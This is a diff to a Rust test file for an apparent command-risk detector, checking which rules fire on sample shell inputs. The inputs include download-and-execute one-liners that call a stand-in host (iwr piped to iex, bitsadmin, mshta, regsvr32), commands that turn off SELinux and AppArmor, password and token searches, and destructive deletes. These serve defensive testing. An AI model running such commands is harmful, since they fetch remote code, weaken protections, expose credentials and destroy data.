@@ -4169,7 +4169,10 @@ fn windows_payloads_and_recovery() {
     expect_fires(
         &e,
         &[
-            ("iwr http://x.example/a.ps1 | iex", "download-piped-to-shell"),
+            (
+                "iwr http://x.example/a.ps1 | iex",
+                "download-piped-to-shell",
+            ),
             ("irm https://get.scoop.sh | iex", "download-piped-to-shell"),
             (
                 "curl.exe -s http://x.example/a.ps1 | powershell -",
@@ -4191,7 +4194,10 @@ fn windows_payloads_and_recovery() {
                 "bitsadmin /transfer j http://x.example/a.exe C:\\a.exe",
                 "windows-download-tool",
             ),
-            ("certutil -decode payload.b64 payload.exe", "windows-decode-file"),
+            (
+                "certutil -decode payload.b64 payload.exe",
+                "windows-decode-file",
+            ),
             ("mshta http://x.example/a.hta", "windows-script-proxy"),
             (
                 "regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll",
@@ -4230,13 +4236,19 @@ fn windows_payloads_and_recovery() {
                 "echo 'iex (iwr http://x)' > notes.txt",
                 "powershell-download-exec-unparsed",
             ),
-            ("iwr http://x.example/a.zip -OutFile a.zip", "download-piped-to-shell"),
+            (
+                "iwr http://x.example/a.zip -OutFile a.zip",
+                "download-piped-to-shell",
+            ),
             ("certutil -hashfile a.exe SHA256", "windows-download-tool"),
             ("certutil -hashfile a.exe SHA256", "windows-decode-file"),
             ("mshta app.hta", "windows-script-proxy"),
             ("regsvr32 /s mylib.dll", "windows-script-proxy"),
             ("reg query HKLM\\SOFTWARE\\x", "windows-registry-delete"),
-            ("reg delete HKCU\\Software\\MyApp /f", "windows-registry-delete"),
+            (
+                "reg delete HKCU\\Software\\MyApp /f",
+                "windows-registry-delete",
+            ),
             ("bcdedit /enum", "windows-recovery-off"),
             ("cipher /e secret", "windows-free-space-wipe"),
             ("net user", "windows-user-add"),
@@ -4321,4 +4333,56 @@ fn here_string_downloads_slices_and_resolved_wrappers() {
         false,
     );
     assert_eq!(level("a=(ls -la); \"${a[@]}\""), Level::Medium);
+}
+
+/// Confinement turned off, searches of the system for passwords, and more platforms' deletes.
+#[test]
+fn confinement_credential_hunts_and_platform_deletes() {
+    let e = engine();
+    expect_fires(
+        &e,
+        &[
+            ("setenforce 0", "selinux-off"),
+            ("setenforce Permissive", "selinux-off"),
+            ("aa-teardown", "apparmor-off"),
+            ("aa-complain /etc/apparmor.d/*", "apparmor-off"),
+            ("apparmor_parser -R /etc/apparmor.d/x", "apparmor-unload"),
+            ("grep -r \"password\" /etc", "credential-hunt"),
+            ("rg -i token ~", "credential-hunt"),
+            (
+                "curl -X POST \"localhost:9200/prod/_delete_by_query\" -d '{\"query\":{\"match_all\":{}}}'",
+                "http-delete-by-query",
+            ),
+            ("nomad job stop -purge api", "nomad-job-purge"),
+            ("nomad job stop api", "nomad-job-stop"),
+            ("podman system reset -f", "docker-volume-delete"),
+            ("vagrant destroy -f", "vagrant-destroy"),
+            ("openstack server delete web-1", "cloud-delete"),
+        ],
+        true,
+    );
+    expect_fires(
+        &e,
+        &[
+            ("setenforce 1", "selinux-off"),
+            ("setenforce 0", "firewall-off"),
+            ("apparmor_parser -r /etc/apparmor.d/x", "apparmor-unload"),
+            ("grep -rn password src/", "credential-hunt"),
+            (
+                "grep -i PasswordAuthentication /etc/ssh/sshd_config",
+                "credential-hunt",
+            ),
+            ("grep -r error /var", "credential-hunt"),
+            (
+                "curl -s \"localhost:9200/prod/_search?q=x\"",
+                "http-delete-by-query",
+            ),
+            ("nomad job status api", "nomad-job-stop"),
+            ("nomad job stop api", "nomad-job-purge"),
+            ("podman system df", "docker-destroy"),
+            ("vagrant up", "vagrant-destroy"),
+            ("openstack server list", "cloud-delete"),
+        ],
+        false,
+    );
 }
